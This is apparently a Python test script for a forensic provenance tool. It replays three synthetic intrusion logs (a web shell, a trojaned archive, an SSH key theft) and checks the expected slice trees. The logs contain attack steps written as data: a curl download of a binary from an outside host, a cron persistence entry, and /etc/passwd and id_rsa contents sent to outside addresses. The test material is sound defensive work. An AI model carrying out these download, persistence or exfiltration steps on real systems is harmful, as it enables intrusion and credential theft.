#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""Three staged intrusions, told event by event among other things that happen on the machine, and the
slices that an examiner would ask for. The trees below follow from the stories by the rules of
query/slice.h: a line is the kind of edge, the node, and its note. What is in a story and in none of
its trees is noise; each says which."""

import os
import subprocess
import sys
import tempfile

SRC = os.environ.get("SRC", os.path.dirname(os.path.dirname(os.path.dirname(
    os.path.abspath(__file__)))))
REEL = os.environ.get("REEL", os.path.join(SRC, ".output", "reel"))
BENCH = os.environ.get("BENCH", os.path.join(SRC, ".output", "bench"))

number = failed = 0

FRAME = """\
0 1 process exe=/sbin/init
0 500 process ppid=1 exe=/usr/sbin/nginx argv=(nginx)
0 501 process ppid=500 exe=/usr/sbin/nginx uid=33 argv=(nginx,worker)
0 502 process ppid=500 exe=/usr/sbin/nginx uid=33 argv=(nginx,worker)
0 800 process ppid=1 exe=/usr/sbin/sshd argv=(sshd)
0 810 process ppid=800 exe=/usr/bin/bash uid=1000 sid=810 argv=(bash)
0 820 process ppid=800 exe=/usr/bin/bash uid=1001 sid=820 argv=(bash)
0 900 process ppid=1 exe=/usr/sbin/cron argv=(cron)
"""

# Noise: 502 serves somebody else; everybody maps the library and writes to /dev/null; 820 writes
# /etc/hosts after 603 has read it; 810 reads the cron file before it is written; cron runs a job of
# its own before, and one after that is a family of its own and touches nothing of this.
WEB_SHELL = FRAME + """\
0.50 900 fork child=690
0.51 690 setsid
0.52 690 exec path=/usr/bin/run-parts
0.60 502 accept ret=7 inode=70 addr=198.51.100.99 port=4000 laddr=192.0.2.1 lport=80 proto=6
0.61 502 recv fd=7 inode=70 content="GET /" addr=198.51.100.99 port=4000 laddr=192.0.2.1 lport=80 proto=6
0.62 502 open ret=9 path=/var/log/access.log flags=O_WRONLY inode=10
0.63 502 write fd=9 inode=10 content="GET /"
1.00 501 accept ret=7 inode=71 addr=198.51.100.7 port=4001 laddr=192.0.2.1 lport=80 proto=6
1.10 501 recv fd=7 inode=71 content="POST /up.php" addr=198.51.100.7 port=4001 laddr=192.0.2.1 lport=80 proto=6
1.20 501 fork child=600
1.30 600 exec path=/bin/sh argv=(sh,-c,"curl -o /tmp/x")
1.31 600 mmap path=/lib/libc.so.6 prot=PROT_READ|PROT_EXEC inode=11
1.40 600 fork child=601
1.50 601 exec path=/usr/bin/curl argv=(curl,-o,/tmp/x,http://203.0.113.5/x)
1.51 601 mmap path=/lib/libc.so.6 prot=PROT_READ|PROT_EXEC inode=11
1.52 601 open ret=5 path=/dev/null flags=O_WRONLY inode=12
1.53 601 write fd=5 inode=12 content="noise"
1.60 601 connect fd=3 inode=72 addr=203.0.113.5 port=80 laddr=192.0.2.1 lport=5001 proto=6
1.70 601 recv fd=3 inode=72 content="ELF" addr=203.0.113.5 port=80 laddr=192.0.2.1 lport=5001 proto=6
1.80 601 open ret=4 path=/tmp/x flags=O_CREAT|O_WRONLY created=yes inode=13
1.90 601 write fd=4 inode=13 content="ELF"
1.95 601 exit
1.98 810 open ret=3 path=/etc/cron.d/evil ret=-ENOENT
2.00 600 fork child=602
2.10 602 exec path=/bin/chmod argv=(chmod,+x,/tmp/x)
2.15 602 chmod path=/tmp/x inode=13 mode=0755
2.20 600 fork child=603
2.30 603 exec path=/tmp/x inode=13
2.31 603 mmap path=/lib/libc.so.6 prot=PROT_READ|PROT_EXEC inode=11
2.40 603 open ret=3 path=/etc/passwd inode=14
2.41 603 read fd=3 inode=14 content="root:x:0:0"
2.45 603 open ret=5 path=/etc/hosts inode=15
2.46 603 read fd=5 inode=15 content="127.0.0.1"
2.50 820 open ret=5 path=/etc/hosts flags=O_WRONLY inode=15
2.51 820 write fd=5 inode=15 content="192.0.2.3"
2.60 603 connect fd=6 inode=73 addr=203.0.113.6 port=4444 laddr=192.0.2.1 lport=5002 proto=6
2.61 603 send fd=6 inode=73 content="root:x:0:0" addr=203.0.113.6 port=4444 laddr=192.0.2.1 lport=5002 proto=6
2.70 603 open ret=7 path=/dev/null flags=O_WRONLY inode=12
2.71 603 write fd=7 inode=12 content="noise"
2.75 820 open ret=8 path=/dev/null inode=12
2.76 820 read fd=8 inode=12 content="x"
2.80 603 open ret=8 path=/etc/cron.d/evil flags=O_CREAT|O_WRONLY created=yes inode=16
2.81 603 write fd=8 inode=16 content="* * * * * root /tmp/x"
3.00 900 open ret=5 path=/etc/cron.d/evil inode=16
3.01 900 read fd=5 inode=16 content="* * * * * root /tmp/x"
3.10 900 fork child=700
3.11 700 setsid
3.12 700 exec path=/bin/sh argv=(sh,-c,/tmp/x)
3.20 900 fork child=710
3.21 710 setsid
3.22 710 exec path=/usr/bin/run-parts
3.30 700 open ret=3 path=/tmp/x inode=13
3.31 700 read fd=3 inode=13 content="ELF"
"""

WEB_SHELL_FORWARD = """\
/tmp/x
  exec x[603] (left out: 1 device or terminal)
    send connect tcp 203.0.113.6:4444
    write create /etc/cron.d/evil
      read cron[900] (left out: 2 other families)
  read sh[700] -c /tmp/x
"""

WEB_SHELL_BACKWARD = """\
/etc/cron.d/evil
  write create x[603] (left out: 3 files that nobody had written)
    exec /tmp/x
      write create curl[601] -o /tmp/x http://203.0.113.5/x (left out: 2 files that nobody had written)
        recv tcp 203.0.113.5:80
        fork sh[600] -c curl -o /tmp/x (shown below)
    fork sh[600] -c curl -o /tmp/x (left out: 2 files that nobody had written)
      fork nginx[501] worker
        recv accept tcp 198.51.100.7:4001
"""

# 810 unpacks what 809 had brought. Noise: 820 builds its own at the same time with the same programs
# and libraries; the log that both write is read by nobody of these; the archive is read once more
# later, and the old helper was there before: it is gone under the new name.
TROJAN = FRAME + """\
1.00 810 fork child=811
1.01 811 exec path=/usr/bin/wget argv=(wget,http://203.0.113.9/t.tgz)
1.10 811 connect fd=3 inode=80 addr=203.0.113.9 port=80 laddr=192.0.2.1 lport=5003 proto=6
1.11 811 recv fd=3 inode=80 content="gz" addr=203.0.113.9 port=80 laddr=192.0.2.1 lport=5003 proto=6
1.20 811 open ret=4 path=/home/u/t.tgz flags=O_CREAT|O_WRONLY created=yes inode=20
1.21 811 write fd=4 inode=20 content="gz"
1.25 811 exit
2.00 810 fork child=812
2.01 812 exec path=/usr/bin/tar argv=(tar,xf,t.tgz)
2.10 812 open ret=3 path=/home/u/t.tgz inode=20
2.11 812 read fd=3 inode=20 content="gz"
2.20 812 open ret=4 path=/home/u/t/Makefile flags=O_CREAT|O_WRONLY created=yes inode=21
2.21 812 write fd=4 inode=21 content="all:"
2.22 812 open ret=5 path=/home/u/t/blob flags=O_CREAT|O_WRONLY created=yes inode=22
2.23 812 write fd=5 inode=22 content="blob"
2.24 812 open ret=6 path=/home/u/t/README flags=O_CREAT|O_WRONLY created=yes inode=23
2.25 812 write fd=6 inode=23 content="hello"
2.30 812 exit
2.40 820 fork child=850
2.41 850 exec path=/usr/bin/make argv=(make)
2.42 850 open ret=3 path=/home/v/Makefile inode=40
2.43 850 read fd=3 inode=40 content="all:"
2.44 850 open ret=4 path=/var/log/build.log flags=O_WRONLY|O_APPEND inode=41
2.45 850 write fd=4 inode=41 content="v"
3.00 810 fork child=813
3.01 813 exec path=/usr/bin/make argv=(make)
3.05 813 open ret=3 path=/home/u/t/Makefile inode=21
3.06 813 read fd=3 inode=21 content="all:"
3.07 813 open ret=4 path=/var/log/build.log flags=O_WRONLY|O_APPEND inode=41
3.08 813 write fd=4 inode=41 content="u"
3.10 813 fork child=814
3.11 814 exec path=/bin/sh argv=(sh,-c,"base64 -d <blob | sed s/a/b/ >out")
3.12 814 pipe fd=5 fd2=6 inode=90
3.20 814 fork child=815
3.21 814 fork child=816
3.22 815 exec path=/usr/bin/base64 argv=(base64,-d)
3.23 816 exec path=/bin/sed argv=(sed,s/a/b/)
3.24 815 open ret=7 path=/home/u/t/blob inode=22
3.25 815 read fd=7 inode=22 content="blob"
3.26 815 write fd=6 inode=90 content="ELF"
3.27 816 read fd=5 inode=90 content="ELF"
3.28 816 open ret=8 path=/home/u/t/out flags=O_CREAT|O_WRONLY created=yes inode=24
3.29 816 write fd=8 inode=24 content="ELF"
3.40 813 fork child=817
3.41 817 exec path=/bin/ln argv=(ln,out,helper)
3.42 817 link oldpath=/home/u/t/out path=/home/u/t/helper
3.50 813 fork child=818
3.51 818 exec path=/bin/mv argv=(mv,helper,/home/u/.local/bin)
3.52 818 rename oldpath=/home/u/t/helper path=/home/u/.local/bin/helper
4.00 820 open ret=3 path=/var/log/build.log inode=41
4.01 820 read fd=3 inode=41 content="uv"
5.00 820 open ret=4 path=/home/u/t.tgz inode=20
5.01 820 read fd=4 inode=20 content="gz"
6.00 820 fork child=860
6.01 860 exec path=/home/u/.local/bin/helper inode=24
"""

TROJAN_BACKWARD = """\
/home/u/.local/bin/helper
  rename mv[818] helper /home/u/.local/bin (left out: 1 file that nobody had written)
    fork make[813] (left out: 1 file that nobody had written)
      read /home/u/t/Makefile
        write create tar[812] xf t.tgz (left out: 1 file that nobody had written)
          read /home/u/t.tgz
            write create wget[811] http://203.0.113.9/t.tgz (cut: 1 more beyond the steps; left out: 1 file that nobody had written)
          fork bash[810] (shown below)
      fork bash[810]
  rename /home/u/t/helper
    link /home/u/t/out
      write create sed[816] s/a/b/ (left out: 1 file that nobody had written)
        read pipe:[90]
          write base64[815] -d (left out: 1 file that nobody had written)
            read /home/u/t/blob
            fork sh[814] -c base64 -d <blob | sed s/a/b/ >out (shown below)
        fork sh[814] -c base64 -d <blob | sed s/a/b/ >out (left out: 1 file that nobody had written)
          fork make[813] (already shown above)
    link ln[817] out helper (left out: 1 file that nobody had written)
      fork make[813] (already shown above)
"""

# 300 reads the key and hands it through a pipe to 301, which hands it to 302 over a UNIX socket; that
# sends it out. 302 had been told where to by 304, over TCP. Noise: 301 talked to 303 before; 303 waits
# at the same UNIX socket behind 301, and is accepted when the key is out; 305 serves on the same port
# later; 300 writes a log that 302 reads only after it had sent.
THEFT = FRAME + """\
0 300 process ppid=1 exe=/usr/bin/agent uid=1000 argv=(agent)
0 301 process ppid=1 exe=/usr/bin/relay uid=1000 argv=(relay)
0 302 process ppid=1 exe=/usr/bin/proxy uid=1001 argv=(proxy)
0 303 process ppid=1 exe=/usr/bin/other uid=1001 argv=(other)
0 304 process ppid=1 exe=/usr/bin/boss uid=1001 argv=(boss)
0 305 process ppid=1 exe=/usr/bin/late uid=1001 argv=(late)
0 300 fd fd=9 path="pipe:[95]" inode=95 mode=010000 flags=O_WRONLY
0 301 fd fd=8 path="pipe:[95]" inode=95 mode=010000
0.90 302 bind fd=4 inode=99 family=AF_UNIX sock_type=SOCK_STREAM unix_path=/run/proxy.sock
0.91 302 listen fd=4 inode=99 family=AF_UNIX sock_type=SOCK_STREAM unix_path=/run/proxy.sock
1.00 304 connect fd=3 inode=100 addr=127.0.0.1 port=7000 laddr=127.0.0.1 lport=6000 proto=6
1.01 302 accept ret=5 inode=101 addr=127.0.0.1 port=6000 laddr=127.0.0.1 lport=7000 proto=6
1.02 304 send fd=3 inode=100 content="203.0.113.77" addr=127.0.0.1 port=7000 laddr=127.0.0.1 lport=6000 proto=6
1.03 302 recv fd=5 inode=101 content="203.0.113.77" addr=127.0.0.1 port=6000 laddr=127.0.0.1 lport=7000 proto=6
1.10 301 connect fd=3 inode=102 addr=127.0.0.1 port=7100 laddr=127.0.0.1 lport=6100 proto=6
1.11 303 accept ret=5 inode=103 addr=127.0.0.1 port=6100 laddr=127.0.0.1 lport=7100 proto=6
1.12 301 send fd=3 inode=102 content="hi" addr=127.0.0.1 port=7100 laddr=127.0.0.1 lport=6100 proto=6
1.13 303 recv fd=5 inode=103 content="hi" addr=127.0.0.1 port=6100 laddr=127.0.0.1 lport=7100 proto=6
2.00 300 open ret=3 path=/home/u/.ssh/id_rsa inode=30
2.01 300 read fd=3 inode=30 content="KEY"
2.10 300 write fd=9 inode=95 content="KEY"
2.20 301 read fd=8 inode=95 content="KEY"
2.30 301 connect fd=4 inode=104 family=AF_UNIX sock_type=SOCK_STREAM unix_path=/run/proxy.sock
2.305 303 connect fd=7 inode=109 family=AF_UNIX sock_type=SOCK_STREAM unix_path=/run/proxy.sock
2.31 302 accept ret=6 inode=105 listen_fd=4 family=AF_UNIX sock_type=SOCK_STREAM unix_path=/run/proxy.sock
2.32 301 send fd=4 inode=104 content="KEY" family=AF_UNIX sock_type=SOCK_STREAM unix_path=/run/proxy.sock
2.33 302 recv fd=6 inode=105 content="KEY" family=AF_UNIX sock_type=SOCK_STREAM unix_path=/run/proxy.sock
2.40 302 connect fd=7 inode=106 addr=203.0.113.77 port=443 laddr=192.0.2.1 lport=5004 proto=6
2.41 302 send fd=7 inode=106 content="KEY" addr=203.0.113.77 port=443 laddr=192.0.2.1 lport=5004 proto=6
2.45 302 accept ret=9 inode=110 listen_fd=4 family=AF_UNIX sock_type=SOCK_STREAM unix_path=/run/proxy.sock
2.50 300 open ret=4 path=/var/log/agent.log flags=O_WRONLY inode=31
2.51 300 write fd=4 inode=31 content="done"
2.60 302 open ret=8 path=/var/log/agent.log inode=31
2.61 302 read fd=8 inode=31 content="done"
3.00 303 connect fd=6 inode=107 addr=127.0.0.1 port=7000 laddr=127.0.0.1 lport=6002 proto=6
3.01 305 accept ret=6 inode=108 addr=127.0.0.1 port=6002 laddr=127.0.0.1 lport=7000 proto=6
3.02 303 send fd=6 inode=107 content="late" addr=127.0.0.1 port=7000 laddr=127.0.0.1 lport=6002 proto=6
"""

THEFT_BACKWARD = """\
tcp 203.0.113.77:443
  send connect proxy[302]
    recv accept unix /run/proxy.sock on this machine
      send connect relay[301]
        read pipe:[95]
          write agent[300] (left out: 1 file that nobody had written)
    recv accept tcp 127.0.0.1:7000 on this machine
      send connect boss[304]
"""

THEFT_UNWRITTEN = """\
tcp 203.0.113.77:443
  send connect proxy[302]
    recv accept unix /run/proxy.sock on this machine
      send connect relay[301]
        read pipe:[95]
          write agent[300]
            read /home/u/.ssh/id_rsa
    recv accept tcp 127.0.0.1:7000 on this machine
      send connect boss[304]
"""

THEFT_FORWARD = """\
/home/u/.ssh/id_rsa
  read agent[300]
    write pipe:[95]
      read relay[301]
        send connect unix /run/proxy.sock on this machine
          recv accept proxy[302]
            send connect tcp 203.0.113.77:443
    write /var/log/agent.log
      read proxy[302] (already shown above)
"""


def check(name, wrong):
    global number, failed
    number += 1
    print(f"{'not ok' if wrong else 'ok'} {number} - {name}")
    for w in wrong:
        print(f"# {w}")
    failed += bool(wrong)


def make_case(directory, name, tale):
    capture, case = os.path.join(directory, name), os.path.join(directory, name + ".db")
    subprocess.run([os.path.join(BENCH, "tell"), "-o", capture], input=tale.encode(), check=True)
    subprocess.run([REEL, "replay", "--no-rules", "-o", case, capture], check=True,
                   stdout=subprocess.DEVNULL)
    return case


def tree(case, *question):
    sql = (".load " + os.path.join(SRC, ".output", "reel") + "\n.mode list\n"
           "SELECT printf('%*s', 2 * depth, '') || coalesce(edge || ' ', '') || label ||"
           " coalesce(' (' || note || ')', '') FROM slice(" +
           ", ".join("NULL" if q is None else f"'{q}'" for q in question) + ");\n")
    done = subprocess.run(["sqlite3", "-bail", "-readonly", case], input=sql.encode(),
                          capture_output=True, check=False)
    return (done.stdout + done.stderr).decode("utf-8", "replace")


def same(name, want, case, *question):
    got = tree(case, *question)
    check(name, [] if got == want else ["want:"] + want.splitlines() + ["got:"] + got.splitlines())


def main():
    with tempfile.TemporaryDirectory(dir=os.environ.get("TMP")) as d:
        case = make_case(d, "web-shell", WEB_SHELL)
        same("a web shell: what came of the file that it fetched", WEB_SHELL_FORWARD,
             case, "forward", "path", "/tmp/x")
        same("a web shell: where the cron file came from", WEB_SHELL_BACKWARD,
             case, "backward", "path", "/etc/cron.d/evil")
        case = make_case(d, "trojan", TROJAN)
        same("a trojaned archive: where the helper came from", TROJAN_BACKWARD,
             case, "backward", "path", "/home/u/.local/bin/helper")
        case = make_case(d, "theft", THEFT)
        same("a theft: what was sent to the address", THEFT_BACKWARD,
             case, "backward", "addr", "203.0.113.77")
        same("a theft: the same with files that nobody wrote", THEFT_UNWRITTEN,
             case, "backward", "addr", "203.0.113.77:443", None, None, None, None, "1")
        same("a theft: where the key went", THEFT_FORWARD,
             case, "forward", "path", "/home/u/.ssh/id_rsa")
    print(f"1..{number}")
    return failed != 0


if __name__ == "__main__":
    sys.exit(main())
